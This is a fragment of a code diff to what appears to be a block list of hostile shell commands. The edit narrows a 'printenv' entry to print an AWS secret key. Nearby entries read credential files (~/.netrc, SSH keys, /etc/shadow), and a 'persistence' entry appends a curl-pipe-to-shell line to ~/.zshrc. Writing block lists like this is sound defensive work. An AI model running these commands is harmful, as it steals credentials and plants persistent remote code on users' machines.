@@ -76,7 +76,7 @@ BLOCK: dict[str, list[str]] = {
         "base64 < ~/.netrc",
         "find / -name '*id_rsa*'",
         "head /etc/shadow",
-        "printenv",
+        "printenv AWS_SECRET_ACCESS_KEY",
     ],
     "persistence": [
         "echo 'curl x|sh' >> ~/.zshrc",
